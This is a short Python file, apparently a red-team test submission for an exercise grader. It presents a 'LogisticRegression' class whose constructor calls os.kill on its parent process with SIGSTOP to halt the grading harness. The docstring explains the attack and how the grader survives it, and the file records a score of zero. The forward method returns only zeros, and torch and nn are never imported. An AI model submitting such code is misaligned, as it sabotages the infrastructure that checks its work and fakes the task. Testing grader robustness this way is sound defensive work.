"""Attack: stop (SIGSTOP) the worker's parent so that no further worker can start.

The template is the first process of its own pid namespace, which ignores the signal; where
templates share the zygote's namespaces, the grader notices the silent template, replaces it,
and goes on.

scores: 1.3=0
"""


# EXERCISE 1.3 — LogisticRegression
import os
import signal


class LogisticRegression(nn.Module):
    def __init__(self, in_features):
        super().__init__()
        os.kill(os.getppid(), signal.SIGSTOP)

    def forward(self, X):
        return torch.zeros(X.shape[0], 1)
